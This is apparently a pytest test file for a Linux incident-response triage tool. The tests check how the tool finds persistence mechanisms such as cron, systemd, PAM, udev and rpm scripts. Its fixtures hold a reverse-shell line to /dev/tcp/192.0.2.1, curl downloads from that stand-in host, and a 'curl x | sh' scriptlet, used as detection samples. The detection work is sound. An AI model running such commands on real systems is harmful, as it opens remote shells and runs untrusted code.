# Copyright (c) 2026, the csirt.linux_triage authors
# GNU General Public License v3.0-or-later (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The table ``persistence``: files from the archive joined with what the host said of them and of what they run."""

from __future__ import annotations

import io
from pathlib import Path
from types import SimpleNamespace

import pytest
from ansible_collections.csirt.linux_triage.plugins.plugin_utils._home_tables._persistence import _payloads, _persistence
from ansible_collections.csirt.linux_triage.tests.unit.plugins.plugin_utils.table_helpers import Home

CRON = b"/etc/cron.d/x"
REGULAR = "file"


@pytest.fixture
def home(tmp_path: Path) -> Home:
    return Home(tmp_path)


def told(home: Home, files=(), targets=()):
    """Gives the host's two tables and ends; returns all tables."""
    home.rows(b"tables/persistence_files.jsonl", *files)
    home.rows(b"tables/persistence_targets.jsonl", *targets)
    return home.finish()


def only(tables):
    (row,) = tables["persistence"]
    return row


def test_row_has_file_and_executable(home):
    home.file(CRON, b"* * * * * root /opt/x -a\n")
    row = only(told(home, [
        {"path": "/etc/cron.d/x", "type": REGULAR, "sha256": "aa", "mtime": "2026-01-01T00:00:00Z", "btime": "2026-02-01T00:00:00Z",
         "package": "cron", "mode": "0644", "uid": 0},
    ], [
        {"path": "/opt/x", "exists": True, "type": REGULAR, "sha256": "bb", "btime": "2026-03-01T00:00:00Z", "magic": "elf",
         "archived": "[root]/opt/x"},
    ]))
    assert row == {
        "mechanism": "cron", "trigger": "* * * * *", "path": "/etc/cron.d/x", "line": 1, "command": "/opt/x -a", "user": "root",
        "attack": "T1053.003", "package": "cron", "sha256": "aa", "mtime": "2026-01-01T00:00:00Z", "btime": "2026-02-01T00:00:00Z",
        "mode": "0644", "uid": 0, "enabled": True, "executable": "/opt/x", "exists": True, "executable_unowned": True, "magic": "elf",
        "archived": "[root]/opt/x", "executable_sha256": "bb", "executable_btime": "2026-03-01T00:00:00Z",
    }


def test_without_owners_nothing_is_unowned(home):
    home.file(CRON, b"* * * * * root /opt/x\n")
    row = only(told(home, [{"path": "/etc/cron.d/x", "type": REGULAR, "sha256": "aa"}], [{"path": "/opt/x", "exists": True, "sha256": "b"}]))
    assert "unowned" not in row and "executable_unowned" not in row


def test_missing_executable_is_said(home):
    home.file(CRON, b"* * * * * root /opt/x\n* * * * * root /opt/not-asked\n")
    rows = told(home, (), [{"path": "/opt/x", "exists": False}])["persistence"]
    assert [(row["executable"], row.get("exists")) for row in rows] == [("/opt/x", False), ("/opt/not-asked", None)]


@pytest.mark.parametrize("path, data, target, expected", [
    (CRON, b"@daily root curl x\n", {"path": "/usr/bin/curl", "names": ["curl"]}, "/usr/bin/curl"),
    (b"/etc/pam.d/x", b"auth required pam_x.so\n", {"path": "/lib/x/security/pam_x.so", "names": ["pam_x.so"]}, "/lib/x/security/pam_x.so"),
    (b"/etc/nsswitch.conf", b"passwd: x\n", {"path": "/lib/libnss_x.so.2", "names": ["x"]}, "/lib/libnss_x.so.2"),
    (b"/etc/modules", b"x\n", {"path": "/lib/modules/6.1/extra/x.ko.xz", "names": ["x"]}, "/lib/modules/6.1/extra/x.ko.xz"),
    (b"/etc/udev/rules.d/x", b'RUN+="x"\n', {"path": "/usr/lib/udev/x", "names": ["x"]}, "/usr/lib/udev/x"),
    (CRON, b"@daily root pam_x.so\n", {"path": "/lib/x/security/pam_x.so", "names": ["pam_x.so"]}, None),
])
def test_name_is_looked_for_where_the_mechanism_looks(home, path, data, target, expected):
    home.file(path, data)
    assert only(told(home, (), [dict(target, exists=True, sha256="a")])).get("executable") == expected


def test_usual_path_is_searched_in_its_order(home):
    home.file(CRON, b"@daily root ls\n")
    targets = [{"path": folder + "/ls", "names": ["ls"], "exists": True} for folder in ("/bin", "/usr/bin", "/usr/local/bin")]
    assert only(told(home, (), targets))["executable"] == "/usr/local/bin/ls"


def test_other_programs_of_a_command_are_named(home):
    home.file(CRON, b"@daily root /bin/ls && /opt/x; /opt/gone\n")
    targets = [{"path": "/bin/ls", "exists": True}, {"path": "/opt/x", "exists": True}, {"path": "/opt/gone", "exists": False}]
    assert only(told(home, (), targets))["also"] == ["/opt/x"]


def test_scripts_of_rpm_packages(home):
    package = b"package p%d-1\npostinstall scriptlet (using /bin/sh):\n%s\n"
    scripts = [b"curl x | sh" if number == 70 else b"ldconfig" * 900 for number in range(99)]
    home.give(b"live/commands/rpm-scripts.txt", b"".join(package % pair for pair in enumerate(scripts)))
    (row,) = told(home)["persistence"]
    assert (row["mechanism"], row["trigger"], row["line"], row["user"]) == ("package_script", "rpm: a script of p70-1", 213, "root")


def test_lines_of_scripts_that_are_started(home):
    evil = b"#!/bin/bash\n# curl\nbash -c 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1' &\n"
    home.file(b"/usr/share/dbus-1/system-services/x.service", b"[D-BUS Service]\nName=x\nExec=/opt/link\n")
    home.file(b"/opt/started", evil)
    home.file(b"/opt/without-magic.sh", b"curl http://192.0.2.1/x\n")
    home.file(b"/opt/elf", b"\x7fELF curl\n")
    home.file(b"/var/www/never-started", evil)
    targets = [{"path": "/opt/link", "real_path": "/opt/started", "exists": True, "sha256": "a", "archived": "[root]/opt/started"},
               {"path": "/opt/without-magic.sh", "exists": True, "sha256": "b", "archived": "[root]/opt/without-magic.sh"},
               {"path": "/opt/elf", "exists": True, "sha256": "c", "archived": "[root]/opt/elf"},
               {"path": "/usr/bin/x", "exists": True, "sha256": "d", "package": "x"}]
    rows = [row for row in told(home, (), targets)["persistence"] if row["mechanism"] == "payload"]
    assert [(row["path"], row["line"], row["command"], row["unowned"]) for row in rows] == [
        ("/opt/started", 3, "bash -c 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1' &", True), ("/opt/without-magic.sh", 1, "curl http://192.0.2.1/x", True)]


@pytest.mark.parametrize("limit", ["ALL_BYTES", "FILES"])
def test_scripts_that_are_started_and_were_not_searched_are_told(home, monkeypatch, limit):
    monkeypatch.setattr(_payloads, limit, 40 if limit == "ALL_BYTES" else 1)
    for name in (b"/opt/a", b"/opt/b", b"/var/www/never-started.sh"):
        home.file(name, b"#!/bin/sh\ncurl http://192.0.2.1/x\n")
    targets = [{"path": path, "exists": True, "sha256": path, "archived": "[root]" + path} for path in ("/opt/a", "/opt/b")]
    problems = [row["problem"] for row in told(home, (), targets)["errors"]]
    assert problems == ["1 scripts that something starts were not searched"]


def test_home_stands_for_itself(home):
    home.file(b"/home/a/.config/systemd/user/x.service", b"[Service]\nExecStart=%h/x\n")
    home.file(b"/home/a/.bashrc", b". ~/y\n")
    rows = told(home)["persistence"]
    assert [row.get("executable") for row in rows] == ["/home/a/x", None, "/home/a/y"]


LINKS = {
    "/etc/systemd/system/multi-user.target.wants/a.service": "/etc/systemd/system/a.service",
    "/etc/systemd/system/b.service": "/dev/null",
    "/etc/systemd/system/dbus-c.service": "/usr/lib/systemd/system/c.service",
    "/etc/rc2.d/S01d": "../init.d/d", "/etc/rc2.d/K01e": "../init.d/e",
}


def test_links_enable_and_mask(home):
    for name in (b"a", b"b", b"c"):
        home.file(b"/usr/lib/systemd/system/%s.service" % name, b"[Service]\nExecStart=/opt/%s\n" % name)
    home.file(b"/etc/init.d/d", b"#!/bin/sh\n")
    home.file(b"/etc/init.d/e", b"#!/bin/sh\n")
    home.give(b"live/commands/systemctl-unit-files.txt", b"c.service disabled enabled\n\xff\xfe\n")
    home.give(b"live/commands/systemctl-units.txt", b"a.service loaded failed failed A service\n")
    tables = told(home, [{"path": path, "type": "link", "target": target} for path, target in LINKS.items()])
    assert [row["enabled"] for row in tables["persistence"]] == [True, False, False, True, False]
    services = {row.pop("unit"): row for row in tables["services"]}
    assert services["a.service"] == {
        "enabled": True, "wanted_by": ["multi-user.target"], "command": "/opt/a", "load": "loaded", "active": "failed",
        "sub": "failed", "description": "A service",
    }
    assert services["b.service"] == {"enabled": False, "masked": True, "command": "/opt/b"}


def test_what_a_unit_starts_is_found_through_templates_and_aliases(home):
    home.file(b"/etc/systemd/system/a@.service", b"[Service]\nExecStartPre=/opt/pre\nExecStart=/opt/a\nExecStartPost=/opt/post\n")
    home.file(b"/usr/lib/systemd/system/c.service", b"[Service]\nExecStart=/opt/c\n")
    home.file(b"/etc/systemd/system/a.timer", b"[Timer]\nOnBootSec=1\nUnit=a@x.service\n")
    home.file(b"/usr/share/dbus-1/system-services/c.service", b"[D-BUS Service]\nName=c\nSystemdService=dbus-c.service\n")
    tables = told(home, [{"path": path, "type": "link", "target": target} for path, target in LINKS.items()])
    found = {row["mechanism"]: (row["starts"], row["executable"]) for row in tables["persistence"] if "starts" in row}
    assert found == {"systemd_timer": ("a@x.service", "/opt/a"), "dbus": ("dbus-c.service", "/opt/c")}


def test_file_behind_a_link_counts_under_the_name_of_the_link(home):
    home.tables.linked(b"[root]/etc/systemd/system/multi-user.target.wants/x.service", b"/etc/systemd/system/x.service")
    home.tables.linked(b"[root]/etc/systemd/system/x.service", b"../../../opt/y")
    home.file(b"/opt/y", b"[Service]\nExecStart=/opt/x\n")
    home.file(b"/opt/z", b"[Service]\nExecStart=/opt/x\n")
    row = only(told(home))
    assert (row["path"], row["real_path"], row["mechanism"]) == ("/etc/systemd/system/x.service", "/opt/y", "systemd_service")


def test_piped_logs_of_web_servers_are_commands(home):
    home.rows(
        b"tables/web_services.jsonl", {"kind": "log", "target": "file", "path": "/a"},
        {"kind": "log", "target": "pipe", "command": "/opt/x -a", "file": "/etc/apache2/apache2.conf", "line": 7},
    )
    row = only(told(home))
    assert (row["mechanism"], row["path"], row["line"], row["executable"]) == (
        "web_config", "/etc/apache2/apache2.conf", 7, "/opt/x")


@pytest.mark.parametrize("magic, executable", [("script", "/opt/x"), (None, None)])
def test_files_made_at_boot_are_programs_when_they_look_like_some(home, magic, executable):
    home.file(b"/etc/tmpfiles.d/x.conf", b"C /run/x - - - - /opt/x\n")
    assert only(told(home, (), [{"path": "/opt/x", "exists": True, "magic": magic}])).get("executable") == executable


def test_the_same_file_counts_once(home):
    home.file(CRON, b"@daily root /opt/x\n")
    home.file(CRON, b"@daily root /opt/x\n")
    assert len(told(home)["persistence"]) == 1


def test_other_tables_still_get_the_file(home):
    home.file(b"/root/.ssh/authorized_keys", b'command="/opt/x" ssh-ed25519 '
              b"AAAAC3NzaC1lZDI1NTE5AAAAIGkWbFBFgLqNyg1CsPuG3uhgQfCpGAnVxOlYsqYiXFo8 x\n")
    tables = told(home)
    assert (only(tables)["mechanism"], len(tables["ssh_keys"])) == ("authorized_keys", 1)


def test_many_files_of_one_mechanism_do_not_crowd_out_others(home, monkeypatch):
    monkeypatch.setattr(_persistence, "ROWS_OF_A_MECHANISM", 50)
    monkeypatch.setattr(_persistence, "SHARE_ROWS", 5)
    monkeypatch.setattr(_persistence, "ROWS_OF_A_FILE", 20)
    for number in range(10):
        home.file(b"/etc/cron.d/%d" % number, b"@daily root /opt/x\n" * 30)
    home.file(b"/etc/rc.local", b"/opt/y\n")
    tables = told(home)
    assert len([row for row in tables["persistence"] if row["mechanism"] == "cron"]) == 100
    assert [row["executable"] for row in tables["persistence"] if row["mechanism"] == "rc_local"] == ["/etc/rc.local", "/opt/y"]
    problems = {row["problem"] for row in tables["errors"]}
    assert {"more than 20 commands, the others are left out", "100 commands beyond 50 and 5 a file"} <= problems
    assert all(row["cut"] for row in tables["errors"])


def test_large_decoys_and_decoys_full_of_commands_do_not_push_out_the_next_file(home):
    decoy = b"@daily root /opt/decoy\n" * 2000
    for number in range(150):
        home.file(b"/etc/cron.d/a%03d" % number, decoy)
    home.file(b"/etc/cron.d/z", b"@daily root /opt/real\n")
    tables = told(home)
    assert [row["path"] for row in tables["persistence"] if row["executable"] == "/opt/real"] == ["/etc/cron.d/z"]
    assert {row["member"] for row in tables["errors"] if row["table"] == "persistence" and row["cut"]} >= {"cron"}
    assert any(row["problem"].endswith("files of which only the first 4096 bytes are read") for row in tables["errors"])


def test_a_large_program_is_no_file_of_commands_that_was_cut(home):
    data = b"\x7fELF" + b"\0" * 100
    home.tables.offer(b"[root]/etc/cron.daily/x", SimpleNamespace(size=2 << 20, mtime=0), io.BytesIO(data))
    assert ["cut" in row for row in told(home)["errors"]] == [False]


def test_long_file_is_read_in_part_and_says_so(home):
    data = b"@daily root /opt/x\n" + b"#" * (2 << 20)
    home.tables.offer(b"[root]" + CRON, SimpleNamespace(size=len(data), mtime=0), io.BytesIO(data))
    tables = told(home)
    assert only(tables)["executable"] == "/opt/x"
    assert "longer than" in tables["errors"][0]["problem"]


def test_hostile_names_and_rows_are_harmless(home):
    home.file(b"/etc/cron.d/\x1b]0;\n\xff", b"@daily ro\x1bot /opt/\x1b[31m\xff\0x\n")
    row = only(told(home, [{"path": 3}, {"path": "/a", "uid": "x", "package": ["y"]}], [{"names": "x"}, {"path": "/\u202e", "exists": True}]))
    assert (row["path"], row["user"]) == ("/etc/cron.d/\\x1b]0;\\x0a\\xff", "ro\\x1bot")
    assert all(character.isprintable() for value in row.values() if isinstance(value, str) for character in value)


def test_fault_of_a_reader_costs_that_file(home, monkeypatch):
    def broken(_text):
        raise RecursionError
    monkeypatch.setattr(_persistence, "kind_of", lambda path: SimpleNamespace(mechanism="x", attack="T0", reader=broken))
    home.file(b"/etc/passwd", b"root:x:0:0::/root:/bin/sh\n")
    tables = told(home)
    assert "persistence" not in tables and len(tables["users"]) == 1
    assert tables["errors"][0]["problem"] == "the reader failed: RecursionError"
